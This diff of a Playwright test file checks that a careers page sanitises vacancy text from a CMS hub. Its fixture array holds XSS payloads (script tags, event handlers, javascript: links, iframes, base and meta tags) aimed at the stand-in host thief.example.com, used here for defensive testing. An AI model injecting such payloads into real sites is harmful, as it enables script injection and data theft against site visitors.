@@ -6,19 +6,19 @@ import { expectNeeded } from './support/error-page';
 import { type SharedFaultySite, test } from './support/faulty-site';
 import { sideways } from './support/layout';
 
-// What the hub may send for the careers page, and what becomes of it (X4, S8).
+// Hostile, missing, invalid and oversized content of the careers page (X4, S8).
 
 test.describe.configure({ mode: 'default', timeout: 60_000 });
 
-const CALL = /cms-page\/careers/;
-const ENTRANCE = 'https://thief.example.com';
-const BAIT = [
+const HUB_CALL = /cms-page\/careers/;
+const ATTACKER_ORIGIN = 'https://thief.example.com';
+const HOSTILE_HTML = [
   `<p onclick="stolen()" onmouseover="stolen()" style="position:fixed;inset:0" class="hidden" id="job-1">Kept words</p>`,
   '<script>window.stolen = true; document.title = "stolen"</script><ScRiPt src="https://thief.example.com/a.js"></sCrIpT>',
-  `<img src="${ENTRANCE}/a.png" onerror="window.stolen = true"><svg onload="window.stolen = true"><script>window.stolen = true</script></svg>`,
-  `<iframe src="${ENTRANCE}/frame" srcdoc="<script>parent.stolen = true</script>"></iframe><style>body { display: none } @import "${ENTRANCE}/a.css";</style>`,
-  `<link rel="stylesheet" href="${ENTRANCE}/b.css"><base href="${ENTRANCE}/"><meta http-equiv="refresh" content="0;url=${ENTRANCE}">`,
-  `<form action="${ENTRANCE}"><input name="x" autofocus onfocus="window.stolen = true"><button>Send</button></form>`,
+  `<img src="${ATTACKER_ORIGIN}/a.png" onerror="window.stolen = true"><svg onload="window.stolen = true"><script>window.stolen = true</script></svg>`,
+  `<iframe src="${ATTACKER_ORIGIN}/frame" srcdoc="<script>parent.stolen = true</script>"></iframe><style>body { display: none } @import "${ATTACKER_ORIGIN}/a.css";</style>`,
+  `<link rel="stylesheet" href="${ATTACKER_ORIGIN}/b.css"><base href="${ATTACKER_ORIGIN}/"><meta http-equiv="refresh" content="0;url=${ATTACKER_ORIGIN}">`,
+  `<form action="${ATTACKER_ORIGIN}"><input name="x" autofocus onfocus="window.stolen = true"><button>Send</button></form>`,
   '<a href="javascript:window.stolen=true">Run</a> <a href="JaVa&#x09;Script:window.stolen=true">Run two</a> <a href="data:text/html,x">Run three</a>',
   `<a href="https://trade.marram.example.com/x" target="_top" onclick="window.stolen = true">Leave</a>`,
   '<ul><li>An item</ul><table><tr><td>A cell</td></tr></table><b><i>Both',
@@ -26,9 +26,9 @@ const BAIT = [
 
 const job = (fields: object) => ({ ...demoJobs[0], ...fields });
 
-/** The hub's careers page is the demo's with these fields instead. */
-async function show(page: Page, faulty: SharedFaultySite, fields: object) {
-  faulty.hub.answer(CALL, answerOf({ ...demoCareers, ...fields }));
+/** Opens the careers page after the hub has changed these fields of the demo's content. */
+async function openCareers(page: Page, faulty: SharedFaultySite, fields: object) {
+  faulty.hub.answer(HUB_CALL, answerOf({ ...demoCareers, ...fields }));
   await faulty.publish(TAG.pageNamed('careers'), '/careers');
   return page.goto(`${faulty.url}/careers`);
 }
@@ -37,30 +37,35 @@ test('X4, S8: a hub that fails, or has no such page: the error page, whole again
   sharedFaulty: faulty,
   page,
 }) => {
-  await expectNeeded(page, faulty, { path: '/careers', call: CALL, name: 'careers', heading: demoCareers.page_title });
+  await expectNeeded(page, faulty, {
+    path: '/careers',
+    call: HUB_CALL,
+    name: 'careers',
+    heading: demoCareers.page_title,
+  });
 });
 
 test('X4: scripts, styles, frames, forms and links of a vacancy that would do harm do nothing at all', async ({
   sharedFaulty: faulty,
   page,
 }) => {
-  const asked: string[] = [];
-  page.on('request', (request) => asked.push(request.url()));
+  const requested: string[] = [];
+  page.on('request', (request) => requested.push(request.url()));
   const errors: string[] = [];
   page.on('pageerror', (error) => errors.push(error.message));
   const texts = {
-    position_description: BAIT,
-    position_purpose: BAIT,
-    position_requirements: BAIT,
-    position_ideal_candidate: BAIT,
-    position_duties: BAIT,
-    position_contact_instructions: BAIT,
+    position_description: HOSTILE_HTML,
+    position_purpose: HOSTILE_HTML,
+    position_requirements: HOSTILE_HTML,
+    position_ideal_candidate: HOSTILE_HTML,
+    position_duties: HOSTILE_HTML,
+    position_contact_instructions: HOSTILE_HTML,
   };
   const active = [job({ ...texts, position_display_title: '<img src=x onerror=alert(1)>Weaver</script>' })];
-  await show(page, faulty, {
+  await openCareers(page, faulty, {
     careers: { active },
-    frequent_questions: { active: [{ id: 1, question_heading: '<b>Why?</b>', questions_body: BAIT }] },
-    question_section_description: BAIT,
+    frequent_questions: { active: [{ id: 1, question_heading: '<b>Why?</b>', questions_body: HOSTILE_HTML }] },
+    question_section_description: HOSTILE_HTML,
     question_section_web_link: 'javascript:window.stolen=true',
   });
   for (const summary of await page.getByRole('main').locator('summary').all()) await summary.click();
@@ -72,18 +77,18 @@ test('X4: scripts, styles, frames, forms and links of a vacancy that would do ha
   ).toBeVisible();
   await expect(page.getByRole('heading', { level: 3, name: '<b>Why?</b>' })).toBeVisible();
   const main = page.getByRole('main');
-  const texty = main.locator('.rich-text');
+  const richTexts = main.locator('.rich-text');
   await expect(
-    texty.locator('script, style, img, svg, iframe, form, input, button, link, meta, base, table'),
+    richTexts.locator('script, style, img, svg, iframe, form, input, button, link, meta, base, table'),
   ).toHaveCount(0);
-  await expect(texty.locator('[style], [class], [id], [onclick], [onmouseover]')).toHaveCount(0);
+  await expect(richTexts.locator('[style], [class], [id], [onclick], [onmouseover]')).toHaveCount(0);
   await expect(main.getByRole('link', { name: /Run|Ask us/ })).toHaveCount(0);
   await expect(main.getByText('Run two').first()).toBeAttached();
   const leave = advert.getByRole('link', { name: 'Leave' }).first();
   await expect(leave).toHaveAttribute('href', 'https://marram.example.com/x');
   await expect(leave).toHaveAttribute('rel', 'noopener');
   expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
-  expect(asked.filter((url) => new URL(url).origin !== faulty.url)).toEqual([]);
+  expect(requested.filter((url) => new URL(url).origin !== faulty.url)).toEqual([]);
   expect(errors).toEqual([]);
   expect(await axeFaults(page, { part: 'main' })).toEqual([]);
 });
@@ -92,7 +97,7 @@ test('X4: without published vacancies it says so, in the words of the specificat
   sharedFaulty: faulty,
   page,
 }) => {
-  const response = await show(page, faulty, {
+  const response = await openCareers(page, faulty, {
     page_title: '',
     careers: { active: [job({ is_published: false })] },
     frequent_questions: null,
@@ -121,27 +126,27 @@ test('X4: eighty vacancies, a text of 20 000 characters and words without end st
 }) => {
   await page.setViewportSize({ width: 320, height: 800 });
   const long = `<p>${'Cloth and more cloth. '.repeat(910)}</p>`;
-  const endless = 'w'.repeat(300);
-  const active = Array.from({ length: 80 }, (_, place) =>
+  const longWord = 'w'.repeat(300);
+  const active = Array.from({ length: 80 }, (_, index) =>
     job({
       id: 1,
-      position_display_title: `Weaver ${place + 1}`,
-      position_description: long.slice(0, place === 0 ? undefined : 400),
+      position_display_title: `Weaver ${index + 1}`,
+      position_description: long.slice(0, index === 0 ? undefined : 400),
     }),
   );
   active.push(
     job({
-      position_display_title: endless,
-      position_location: endless,
-      position_availability: endless,
-      position_description: `<ul><li>${endless}`,
+      position_display_title: longWord,
+      position_location: longWord,
+      position_availability: longWord,
+      position_description: `<ul><li>${longWord}`,
     }),
   );
   const started = Date.now();
-  await show(page, faulty, {
+  await openCareers(page, faulty, {
     careers: { active },
-    question_section_title: endless,
-    question_section_link_button_text: endless,
+    question_section_title: longWord,
+    question_section_link_button_text: longWord,
   });
   expect(Date.now() - started).toBeLessThan(15_000);
   const panels = page.getByRole('main').locator('details[name=jobs]');
@@ -161,7 +166,7 @@ test('X4: entries of the wrong kind are left out, the rest is shown', async ({ s
     { id: 1 },
     job({ position_location: { a: 1 }, position_duties: 12, position_purpose: [] }),
   ];
-  await show(page, faulty, {
+  await openCareers(page, faulty, {
     description: 7,
     banner_media_carousel: 'crop-showroom-wide.webp',
     careers: { active },
